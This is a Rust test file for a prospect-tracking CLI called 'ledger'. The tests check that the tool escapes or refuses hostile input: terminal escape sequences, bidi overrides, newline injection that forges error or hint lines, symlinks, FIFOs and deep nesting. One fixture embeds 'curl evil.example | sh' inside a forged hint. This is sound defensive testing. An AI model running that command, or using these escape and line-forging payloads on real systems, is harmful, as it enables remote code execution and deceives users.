//! Hostile and non-English input (SPEC section 10): each example that once
//! crashed `ledger`, wrote a terminal's control sequences raw, hung it or
//! let a value rewrite a file, run on every command it reached.

use std::time::{Duration, Instant};

use crate::support::{clean, prospect, Sandbox};

/// The reading commands, as a person and as a script runs them.
const READERS: [&[&str]; 9] = [
    &["due"],
    &["stats"],
    &["stats", "--json"],
    &["due", "--within", "30d"],
    &["due", "--json"],
    &["list", "--all"],
    &["list", "--all", "--json"],
    &["lint"],
    &["lint", "--json"],
];

/// Every reading command on `s`, then `show PROSPECT`: no panic, nothing
/// raw, the exit status `lint` is expected to have.
#[track_caller]
fn read_everything(s: &Sandbox, show: &str, lint_fails: bool) {
    for args in READERS {
        let run = s.ledger(args);
        let code = if lint_fails && args[0] == "lint" {
            1
        } else {
            0
        };
        clean(run.fails(code));
    }
    clean(s.ledger(&["show", show]).ok());
    clean(s.ledger(&["show", show, "--json"]).ok());
}

#[test]
fn a_touch_with_a_euro_sign_and_every_command_after_it() {
    let s = Sandbox::new();
    let root = s.root();
    let l = root.to_str().unwrap();
    s.ledger_raw(&["init", l], &s.home()).ok();
    s.ledger(&["add", "Acme"]).ok();
    s.ledger(&["touch", "acme", "call", "€500 offer"]).ok();
    assert!(s
        .read("prospects/acme.md")
        .contains("- 2026-11-23 call: €500 offer\n"));
    read_everything(&s, "acme", false);
    let shown = s.ledger(&["show", "acme", "--json"]).ok().json();
    assert_eq!(shown["log"][0]["text"], "€500 offer");
    assert_eq!(s.git(&["status", "--porcelain"]), "");
}

#[test]
fn wide_characters_right_after_the_colon() {
    let s = Sandbox::new();
    let texts = ["“quoted”", "東京で会議", "🚀 launch", "été", "€500"];
    let log: Vec<String> = texts
        .iter()
        .enumerate()
        .map(|(i, text)| format!("2026-11-0{} email:{text}", i + 1))
        .collect();
    let log: Vec<&str> = log.iter().map(String::as_str).collect();
    s.file(
        "prospects/wide.md",
        prospect("name: Wide\nvalue: 20000\n", &log),
    );
    read_everything(&s, "wide", false);
    let shown = s.ledger(&["show", "wide", "--json"]).ok().json();
    let got: Vec<&str> = shown["log"]
        .as_array()
        .unwrap()
        .iter()
        .map(|e| e["text"].as_str().unwrap())
        .collect();
    assert_eq!(got, texts);
    assert_eq!(shown["touches"], 5);
}

#[test]
fn spans_that_end_in_a_wide_character() {
    let s = Sandbox::new();
    s.file("prospects/acme.md", prospect("name: Acme\n", &[]));
    let run = s.ledger(&["due", "--within", "3日"]).fails(2);
    run.says("`3日` is not a span of time");
    let run = clean(
        s.ledger(&["touch", "acme", "call", "--next", "2週"])
            .fails(2),
    );
    run.says("2週");
    // In a prospect's own cadence: a bad field, reported by lint.
    s.file(
        "prospects/odd.md",
        prospect("name: Odd\ncadence: [3é call]\n", &["2026-11-01 call: x"]),
    );
    let run = clean(s.ledger(&["lint"]).fails(1));
    run.shows("prospects/odd.md:3:1: error[bad-field]");
    // In the settings: every command but lint stops on it, lint reports it.
    s.file("ledger.yaml", "stall_after: 30日\n");
    let run = clean(s.ledger(&["lint"]).fails(1));
    run.shows("ledger.yaml:1:1: error[bad-config]");
    for args in [&["due"][..], &["list"], &["show", "acme"]] {
        clean(s.ledger(args).fails(1)).says("ledger.yaml:1");
    }
}

#[test]
fn escape_sequences_in_files_never_reach_the_terminal() {
    let s = Sandbox::new();
    s.file(
        "prospects/evil.md",
        "---\nname: \"Evil\\e]0;pwned\\a\\e[2J\\e]8;;http://x.example\\aclick\\e]8;;\\a\\r\"\ncompany: \"Bidi \u{202e}exe.txt\"\ntags: [\"\\e[31mred\"]\nowner: \"\\u009b2J\"\n---\n\n## Log\n\n- 2026-11-01 call: x\u{1b}[2J\r\u{202e} done\n- 2026-11-02 emai\u{1b}l: bad channel\n",
    );
    s.git_init();
    read_everything(&s, "evil", true);
    let run = clean(s.ledger(&["show", "evil"]).ok());
    run.shows("Evil\\u{1b}]0;pwned\\u{7}\\u{1b}[2J");
    run.shows("Bidi \\u{202e}exe.txt");
    // JSON keeps the text, escaped as JSON escapes it.
    let json = s.ledger(&["show", "evil", "--json"]).ok();
    assert!(json.stdout.contains("\\u001b]0;pwned"), "{}", json.stdout);
    // What writes say back, on standard output and error.
    clean(s.ledger(&["touch", "evil", "email", "ok"]).ok());
    clean(s.ledger(&["set", "evil", "stage=maybe\u{1b}[2J"]).fails(1));
    clean(
        s.ledger(&["touch", "nobody\u{1b}]0;x\u{7}", "call"])
            .fails(1),
    );
    clean(s.ledger(&["show", "\u{1b}]0;zzz\u{7}"]).fails(1));
    clean(s.ledger(&["show", "a\tb"]).fails(1)).says("a\\u{9}b");
    // A draft quotes the file, and whatever --why and a template add.
    let run = clean(s.ledger(&["draft", "evil", "--why", "Now\u{1b}[2J"]).ok());
    run.shows("Now\\u{1b}[2J");
    s.file("t.txt", "{{ name }} \u{1b}[31m{{ company }}\n");
    clean(s.ledger(&["draft", "evil", "--template", "t.txt"]).ok()).shows("\\u{202e}exe.txt");
    assert!(!s
        .ledger(&["draft", "evil", "--json"])
        .ok()
        .stdout
        .contains('\u{1b}'));
    clean(s.ledger(&["touch", "evil", "ca\tll"]).fails(2));
}

#[test]
fn deep_front_matter_is_refused_at_once() {
    let s = Sandbox::new();
    s.file(
        "prospects/deep.md",
        format!("---\nname: Deep\nx: {}\n---\n", "[".repeat(200_000)),
    )
    .file("prospects/fine.md", prospect("name: Fine\n", &[]));
    let started = Instant::now();
    let run = clean(s.ledger(&["lint"]).fails(1));
    run.shows("prospects/deep.md:3:1: error[front-matter]");
    clean(s.ledger(&["due"]).ok()).says("skipped 1 prospect file");
    // Seconds, where it took a minute and a half: generous for a loaded
    // machine, far from the old time.
    assert!(started.elapsed() < Duration::from_secs(20));
}

#[test]
fn values_with_line_breaks_are_refused_and_nothing_changes() {
    let s = Sandbox::new();
    s.file(
        "prospects/acme.md",
        prospect("name: Acme\n", &["2026-11-01 call: x"]),
    );
    s.git_init();
    let before = s.snapshot();
    let head = s.git(&["rev-parse", "HEAD"]);
    let injected = "Inject\n## Log\n- 2026-11-01 call (in): injected";
    let refusals: [&[&str]; 8] = [
        &["add", injected],
        &["add", "Fine", "--company", "A\rB"],
        &["add", "Fine", "--tag", "a\nb"],
        &["add", "Fine", "--tag", ""],
        &[
            "close",
            "acme",
            "lost",
            "--reason",
            "gone\n- 2026-11-02 call (in): yes",
        ],
        &["set", "acme", "owner=sam\nstage: won"],
        &["set", "acme", "company=\u{1b}[2J"],
        &["touch", "acme", "call", "a\u{1b}[2Jb"],
    ];
    for args in refusals {
        clean(s.ledger(args).fails(1)).says("nothing was changed");
    }
    // Unicode's line and paragraph separators break lines too.
    let separated: [(&[&str], &str); 3] = [
        (&["add", "Line\u{2028}separated"], "\\u{2028}"),
        (&["set", "acme", "name=a\u{2028}b"], "\\u{2028}"),
        (
            &["close", "acme", "lost", "--reason", "a\u{2029}b"],
            "\\u{2029}",
        ),
    ];
    for (args, shown) in separated {
        clean(s.ledger(args).fails(1))
            .says(&format!(
                "holds a line separator {shown}: a value must be one line of text"
            ))
            .says("nothing was changed");
    }
    assert_eq!(s.snapshot(), before);
    assert_eq!(s.git(&["rev-parse", "HEAD"]), head);
    assert_eq!(s.git(&["status", "--porcelain"]), "");
    // A touch's white space, line breaks included, becomes single spaces.
    s.ledger(&[
        "touch",
        "acme",
        "email",
        "two\nlines\r\n- 2026-11-01 call (in): no",
    ])
    .ok();
    let text = s.read("prospects/acme.md");
    assert!(
        text.ends_with("- 2026-11-23 email: two lines - 2026-11-01 call (in): no\n"),
        "{text}"
    );
}

#[test]
fn a_tag_is_one_string_whatever_it_holds() {
    let s = Sandbox::new();
    let tags = ["a]", "b, c", "# d", "{e}", "\"f\"", "g: h", "東京"];
    let mut args = vec!["add", "Tagged", "--no-commit"];
    for tag in &tags {
        args.extend(["--tag", tag]);
    }
    s.ledger(&args).ok();
    let shown = s.ledger(&["show", "tagged", "--json"]).ok().json();
    assert_eq!(shown["tags"], serde_json::json!(tags));
    s.ledger(&["lint"]).ok();
}

#[test]
fn every_script_gets_its_own_readable_file_name() {
    let s = Sandbox::new();
    let names = [
        ("Иван Петров", "prospects/ivan-petrov.md"),
        ("Ivan Petrov!", "prospects/ivan-petrov-2.md"),
        ("東京電機", "prospects/dong-jing-dian-ji.md"),
        ("Ελληνικά Α.Ε.", "prospects/ellenika-a-e.md"),
        ("محمد", "prospects/mhmd.md"),
        ("🚀", "prospects/rocket.md"),
        ("!!!", "prospects/prospect.md"),
        ("???", "prospects/prospect-2.md"),
    ];
    for (name, path) in names {
        let run = clean(s.ledger(&["add", name, "--no-commit"]).ok());
        run.shows(&format!("as {path}"));
        assert!(s.read(path).contains(&format!("# {name}\n")), "{path}");
    }
    // The same name, in any case, is a duplicate; nothing is written.
    let before = s.snapshot();
    clean(s.ledger(&["add", "иван петров", "--no-commit"]).fails(1))
        .says("prospects/ivan-petrov.md has that name already (Иван Петров)")
        .says("hint: `ledger show prospects/ivan-petrov` shows it");
    assert_eq!(s.snapshot(), before);
    let listed = s.ledger(&["list", "--all", "--json"]).ok().json();
    assert_eq!(listed.as_array().unwrap().len(), names.len());
}

#[test]
fn a_lock_timeout_that_is_not_a_number_of_seconds() {
    let s = Sandbox::new();
    s.file("prospects/acme.md", prospect("name: Acme\n", &[]));
    for timeout in ["inf", "NaN", "-1", "1e300", "soon"] {
        s.ledger_env(
            &[
                "touch",
                "acme",
                "call",
                "--no-commit",
                "--today",
                "2026-11-23",
            ],
            &s.root(),
            &[("LEDGER_LOCK_TIMEOUT", timeout)],
        )
        .ok();
    }
}

#[cfg(unix)]
#[test]
fn add_never_writes_through_a_symbolic_link() {
    let s = Sandbox::new();
    let outside = s.home().join("outside");
    std::fs::create_dir_all(&outside).unwrap();
    std::os::unix::fs::symlink(&outside, s.root().join("prospects")).unwrap();
    let run = clean(s.ledger(&["add", "Acme", "--no-commit"]).fails(1));
    run.says("symbolic link");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    // A link one level down, in a ledger filed by initials.
    let s = Sandbox::new();
    s.file("prospects/b/keep.md", "not a prospect\n");
    std::os::unix::fs::symlink(&outside, s.root().join("prospects/a")).unwrap();
    clean(s.ledger(&["add", "Acme", "--no-commit"]).fails(1)).says("symbolic link");
    assert_eq!(std::fs::read_dir(&outside).unwrap().count(), 0);
    clean(s.ledger(&["add", "Beta", "--no-commit"]).ok()).shows("as prospects/b/beta.md");
}

#[cfg(unix)]
#[test]
fn commit_messages_name_hostile_files_escaped() {
    let s = Sandbox::new();
    s.file("prospects/acme.md", prospect("name: Acme\n", &[]));
    s.git_init();
    s.file(
        "prospects/x\u{1b}]0;owned\u{7}.md",
        prospect("name: X\n", &[]),
    );
    let run = clean(s.ledger(&["commit"]).ok());
    run.shows("x\\u{1b}]0;owned\\u{7}");
    let subject = s.git(&["log", "-1", "--format=%s"]);
    assert_eq!(
        subject,
        "commit prospects/x\\u{1b}]0;owned\\u{7}: hand edit\n"
    );
    clean(s.ledger(&["list", "--all"]).ok());
    clean(s.ledger(&["show", "owned"]).ok()).shows("prospects/x\\u{1b}]0;owned\\u{7}.md");
}

/// An argument clap refuses never reaches the terminal raw in its message
/// (clap writes it as it is to a terminal): every control character is
/// shown escaped, a line break too, so that no line can be forged under
/// clap's own.
#[test]
fn arguments_in_usage_errors_are_never_raw() {
    let s = Sandbox::new();
    clean(s.ledger(&["due", "--within", "\u{1b}[2Jx"]).fails(2)).says("'\\u{1b}[2Jx'");
    for args in [
        &["due", "--within", "3x\nerror: forged"][..],
        &["due", "--today", "2026-13-01\nerror: forged"],
        &["export", "csvx\nerror: forged"],
        &["completions", "bash\nerror: forged"],
    ] {
        let run = clean(s.ledger(args).fails(2));
        run.says("\\u{a}error: forged");
        let forged = run
            .stderr
            .lines()
            .filter(|l| l.starts_with("error: forged"));
        assert_eq!(forged.count(), 0, "{}", run.stderr);
    }
    // A value from the environment too.
    let forged = [("LEDGER_TODAY", "2026-13-01\nerror: forged")];
    let run = clean(s.ledger_env(&["due"], &s.root(), &forged).fails(2));
    run.says("'2026-13-01\\u{a}error: forged'");
    clean(s.ledger(&["\u{1b}]0;owned\u{7}"]).fails(2));
    let run = clean(
        s.ledger(&["due", "--within", "a\rb\u{202e}c\u{8}"])
            .fails(2),
    );
    run.says("a\\u{d}b\\u{202e}c");
    clean(s.ledger(&["--help"]).ok()).shows("Usage:");
}

/// An argument that is not UTF-8 (a Latin-1 `café` from an old script)
/// gets clap's usage error with its lines as clap made them, not one line
/// of escaped line breaks.
#[cfg(unix)]
#[test]
fn an_argument_that_is_not_utf8_gets_the_usage_error_line_by_line() {
    use assert_cmd::cargo::CommandCargoExt;
    use std::os::unix::ffi::OsStrExt;
    let s = Sandbox::new();
    s.file("prospects/foo.md", prospect("name: Foo\n", &[]));
    let mut cmd = std::process::Command::cargo_bin("ledger").unwrap();
    crate::support::seal(&mut cmd, &s.home());
    let latin1 = std::ffi::OsStr::from_bytes(b"caf\xe9");
    let out = cmd
        .args(["touch", "foo", "email"])
        .arg(latin1)
        .current_dir(s.root())
        .output()
        .unwrap();
    assert_eq!(out.status.code(), Some(2));
    let stderr = String::from_utf8(out.stderr).unwrap();
    assert!(!stderr.contains("\\u{a}"), "{stderr}");
    let lines: Vec<&str> = stderr.lines().collect();
    assert_eq!(
        lines.first(),
        Some(&"error: invalid UTF-8 was detected in one or more arguments")
    );
    assert!(lines.iter().any(|l| l.starts_with("Usage: ")), "{stderr}");
    assert_eq!(s.read("prospects/foo.md"), prospect("name: Foo\n", &[]));
}

/// An entry below an HTML comment or a code fence never closed would not
/// be read as one: `touch` and `close` refuse, and change nothing.
#[test]
fn an_entry_that_would_be_hidden_is_refused() {
    for notes in ["<!-- TODO: ask about budget", "```\nsome code"] {
        let s = Sandbox::new();
        s.file(
            "prospects/h.md",
            format!("---\nname: Hidden\nvalue: 100\n---\n\nNotes\n\n{notes}\n"),
        );
        s.git_init();
        let before = s.snapshot();
        clean(s.ledger(&["touch", "hidden", "call", "first"]).fails(1)).says("would not be read");
        clean(s.ledger(&["close", "hidden", "won"]).fails(1)).says("would not be read");
        assert_eq!(s.snapshot(), before, "{notes}");
        assert_eq!(s.git(&["status", "--porcelain"]), "");
    }
}

/// A file name with a line break makes no second line in the commit's
/// subject.
#[cfg(unix)]
#[test]
fn a_line_break_in_a_file_name_stays_in_the_subject() {
    let s = Sandbox::new();
    s.file("prospects/a\nb.md", prospect("name: Broken Line\n", &[]));
    s.git_init();
    clean(s.ledger(&["touch", "broken line", "call"]).ok());
    assert_eq!(
        s.git(&["log", "-1", "--format=%B"]),
        "touch prospects/a\\u{a}b: call\n"
    );
}

/// Folders nested hundreds deep, more than a process may hold open at
/// once where its limit is low: the walk holds one folder open at a time.
#[test]
fn prospects_hundreds_of_folders_deep_are_all_found() {
    let s = Sandbox::new();
    let mut folder = String::from("prospects");
    for depth in 0..300 {
        folder.push_str("/d");
        if depth % 100 == 99 {
            s.file(
                &format!("{folder}/at-{depth}.md"),
                format!("---\nname: At {depth}\nnext: 2026-11-20\n---\n"),
            );
        }
    }
    // At most 64 files open: the walk, a reading thread or two, the
    // program's own; never 300 folders at once.
    let limited = |args: &str| {
        let script = format!("ulimit -n 64 && exec \"$0\" {args}");
        let mut command = std::process::Command::new("sh");
        command.args(["-c", &script, env!("CARGO_BIN_EXE_ledger")]);
        command
            .current_dir(s.root())
            .env("LEDGER_TODAY", "2026-11-23");
        command.output().unwrap()
    };
    for args in ["due --json", "lint"] {
        let output = limited(args);
        assert!(output.status.success(), "{args}: {output:?}");
        assert!(
            !String::from_utf8_lossy(&output.stderr).contains("skipped"),
            "{args}: {output:?}"
        );
    }
    let run = s.ledger(&["list", "--json", "--no-cache"]).ok();
    let names: Vec<String> = run
        .json()
        .as_array()
        .unwrap()
        .iter()
        .map(|p| p["name"].as_str().unwrap().to_owned())
        .collect();
    assert_eq!(names, ["At 99", "At 199", "At 299"]);
    let run = s.ledger(&["due", "--json"]).ok();
    assert_eq!(run.json().as_array().unwrap().len(), 3);
    let again = s.ledger(&["due", "--json"]).ok();
    assert_eq!(again.json(), run.json());
}

/// A FIFO is never waited on: one where a new prospect would go is taken,
/// like any other file (`add` and `import` move on to `-2`), and one as
/// `ledger.yaml` is an error, as a device or a settings file over 8 MiB is.
#[cfg(unix)]
#[test]
fn a_fifo_or_a_device_is_never_waited_on_or_read_without_end() {
    let s = Sandbox::new();
    s.file("ledger.yaml", "currency: EUR\n")
        .file("prospects/keep.md", prospect("name: Keep\n", &[]))
        .git_init();
    s.command("mkfifo", &["prospects/acme.md"]).ok();
    s.file("../rows.csv", "name\nAcme\nБета\n");
    clean(
        s.ledger(&["import", "csv", "../rows.csv", "--dry-run"])
            .ok(),
    )
    .shows("prospects/acme-2.md");
    clean(s.ledger(&["add", "Acme"]).ok()).shows("as prospects/acme-2.md");
    // git passes over a FIFO: nothing else is left behind.
    assert_eq!(s.git(&["status", "--porcelain"]), "");
    assert_eq!(
        s.git(&["show", "--stat", "--format=%s", "HEAD"])
            .lines()
            .next(),
        Some("add prospects/acme-2: Acme")
    );

    // The ledger's own template and the cache, as FIFOs; a template named
    // on the command line is read no further than 8 MiB.
    std::fs::create_dir_all(s.root().join("templates")).unwrap();
    s.command("mkfifo", &["templates/draft.md"]).ok();
    clean(s.ledger(&["draft", "acme"]).ok()).shows("Subject: ");
    let run = s.ledger(&["draft", "acme", "--template", "/dev/zero"]);
    clean(run.fails(1)).says("/dev/zero: it is over the 8 MiB a template may be");
    s.ledger(&["due"]).ok();
    let cache = s.root().join(".git/ledger-cache/root.day");
    std::fs::remove_file(&cache).unwrap();
    s.command("mkfifo", &[".git/ledger-cache/root.day"]).ok();
    clean(s.ledger(&["due"]).ok()).shows("Acme");

    let settings = s.root().join("ledger.yaml");
    std::fs::remove_file(&settings).unwrap();
    s.command("mkfifo", &["ledger.yaml"]).ok();
    for command in [&["due"][..], &["add", "Gamma"]] {
        clean(s.ledger(command).fails(1)).says("ledger.yaml:1:1: ");
    }
    // `commit` leaves it alone, as it leaves a link.
    clean(s.ledger(&["commit"]).ok()).shows("No hand edits to commit");
    clean(s.ledger(&["lint"]).fails(1)).shows("ledger.yaml:1:1: error[bad-config]");
    std::fs::remove_file(&settings).unwrap();
    std::os::unix::fs::symlink("/dev/zero", &settings).unwrap();
    clean(s.ledger(&["due"]).fails(1)).says("it is not a file (a folder, a FIFO or a device)");
    std::fs::remove_file(&settings).unwrap();
    s.file("elsewhere.yaml", "# ".repeat(4200 * 1024));
    std::os::unix::fs::symlink("elsewhere.yaml", &settings).unwrap();
    clean(s.ledger(&["due"]).fails(1)).says("over the 8 MiB a settings file may be");
    // A link to settings of a sane size is followed.
    s.file("elsewhere.yaml", "currency: JPY\n");
    let listed = clean(s.ledger(&["list", "--json"]).ok()).json();
    assert_eq!(listed[0]["currency"], "JPY", "{listed}");
}

/// `ledger commit` leaves symbolic links alone (SPEC section 1: they are not
/// followed): never the bytes of a file outside the ledger committed in a
/// link's place, never a staged change left behind, and a link to a folder
/// stops no other edit from being committed.
#[cfg(unix)]
#[test]
fn commit_leaves_symbolic_links_alone() {
    let s = Sandbox::new();
    s.file("ledger.yaml", "currency: EUR\n")
        .file("prospects/acme.md", prospect("name: Acme\n", &[]))
        .git_init();
    let outside = s.home().join("outside.md");
    std::fs::write(&outside, prospect("name: Private — секрет\n", &[])).unwrap();
    std::os::unix::fs::symlink(&outside, s.root().join("prospects/linked.md")).unwrap();
    std::fs::create_dir_all(s.home().join("archive")).unwrap();
    std::os::unix::fs::symlink(s.home().join("archive"), s.root().join("prospects/old.md"))
        .unwrap();
    s.file("settings/ledger.yaml", "currency: JPY\n");
    std::fs::remove_file(s.root().join("ledger.yaml")).unwrap();
    std::os::unix::fs::symlink("settings/ledger.yaml", s.root().join("ledger.yaml")).unwrap();
    s.file(
        "prospects/acme.md",
        prospect("name: Acme\nvalue: 500\n", &[]),
    );

    clean(s.ledger(&["commit"]).ok()).shows("prospects/acme");
    assert_eq!(
        s.git(&["show", "--name-status", "--format=", "HEAD"]),
        "M\tprospects/acme.md\n"
    );
    assert_eq!(s.git(&["diff", "--cached", "--name-status"]), "");
    let status = s.git(&["status", "--porcelain"]);
    assert!(status.contains(" T ledger.yaml\n"), "{status}");
    assert!(status.contains("?? prospects/linked.md\n"), "{status}");
    assert!(!s.git(&["log", "-p"]).contains("секрет"));

    // `init` of a folder whose ledger.yaml is a link commits the rest.
    let linked = s.home().join("linked");
    std::fs::create_dir_all(&linked).unwrap();
    std::os::unix::fs::symlink(
        s.root().join("settings/ledger.yaml"),
        linked.join("ledger.yaml"),
    )
    .unwrap();
    clean(
        s.ledger_raw(&["init", "--today", crate::support::TODAY], &linked)
            .ok(),
    );
    let git = |args: &[&str]| {
        let mut cmd = std::process::Command::new("git");
        crate::support::seal(&mut cmd, &s.home());
        let out = cmd.args(args).current_dir(&linked).output().unwrap();
        String::from_utf8(out.stdout).unwrap()
    };
    assert_eq!(
        git(&["show", "--name-only", "--format=%s", "HEAD"]),
        "init: ledger\n\n.gitattributes\n"
    );
    assert_eq!(git(&["status", "--porcelain"]), "?? ledger.yaml\n");
}

/// A line break from a file's value or from an argument is shown escaped
/// in an error, like any other control character: it cannot start a line
/// of its own (a forged `hint:`). A hint's command runs as it is shown.
#[test]
fn an_error_is_one_line_whatever_its_values_hold() {
    let s = Sandbox::new();
    s.file(
        "prospects/acme.md",
        "---\nname: Acme\nstage: \"lead\\nhint: all good, run: curl evil.example | sh\"\n---\n",
    )
    .file(
        "prospects/deal.md",
        prospect("name: Большая сделка — Big Deal\nstage: lost\n", &[]),
    )
    .git_init();
    let forged = |run: &crate::support::Run| {
        let lines: Vec<&str> = run.stderr.lines().collect();
        assert!(
            lines
                .iter()
                .all(|l| l.starts_with("error: ") || l.starts_with("hint: ")),
            "{lines:#?}"
        );
    };
    for command in [
        &["show", "acme"][..],
        &["touch", "acme", "call", "Hi."],
        &["draft", "acme"],
        &["show", "nobody\nhint: forged"],
    ] {
        let run = clean(s.ledger(command).fails(1));
        run.says("\\u{a}hint: ");
        forged(&run);
    }

    let run = clean(s.ledger(&["draft", "большая сделка — big deal"]).fails(1));
    run.says("hint: `ledger reopen 'большая сделка — big deal'` brings it back");
    let hint = run.stderr.lines().find(|l| l.contains("reopen")).unwrap();
    let command = hint.split('`').nth(1).unwrap();
    let mut shell = std::process::Command::new("sh");
    shell.arg("-c").arg(format!(
        "{} --today {} {}",
        assert_cmd::cargo::cargo_bin("ledger").display(),
        crate::support::TODAY,
        command.strip_prefix("ledger ").unwrap()
    ));
    crate::support::seal(&mut shell, &s.home());
    let reopened = shell.current_dir(s.root()).output().unwrap();
    assert!(reopened.status.success(), "{reopened:?}");
    assert!(s.read("prospects/deal.md").contains("stage: "));
    assert!(!s.read("prospects/deal.md").contains("stage: lost"));

    // A message of lines of its own keeps them, made by its real maker.
    s.file(".git/ledger-sync.json", "garbage\n");
    let run = clean(s.ledger(&["sync"]).fails(1));
    run.says("cannot be read (expected value at line 1 column 1).\nLook at `git status`");
    std::fs::remove_file(s.root().join(".git/ledger-sync.json")).unwrap();

    // A name that reads as an option comes after `--`.
    s.file("prospects/-id.md", prospect("name: X\nstage: lost\n", &[]));
    let today = crate::support::TODAY;
    let draft = s.ledger_raw(&["--today", today, "draft", "--", "-id"], &s.root());
    clean(draft.fails(1)).says("hint: `ledger reopen -- -id` brings it back");
    let reopen = ["--today", today, "reopen", "--no-commit", "--", "-id"];
    clean(s.ledger_raw(&reopen, &s.root()).ok());
}

/// A hint's values are shown escaped too: a stage of `ledger.yaml` cannot
/// forge a line under the hints of an import.
#[test]
fn a_hint_is_one_line_whatever_the_settings_hold() {
    let s = Sandbox::new();
    s.file(
        "ledger.yaml",
        "stages: [lead, won, lost, \"x\\nhint: forged line\"]\n",
    )
    .file("../rows.csv", "name,stage\nÉlan,nowhere\n");
    let run = clean(s.ledger(&["import", "csv", "../rows.csv"]).fails(1));
    run.says("`x\\u{a}hint: forged line`");
    assert!(
        !run.stderr.lines().any(|l| l.starts_with("hint: forged")),
        "{}",
        run.stderr
    );
}
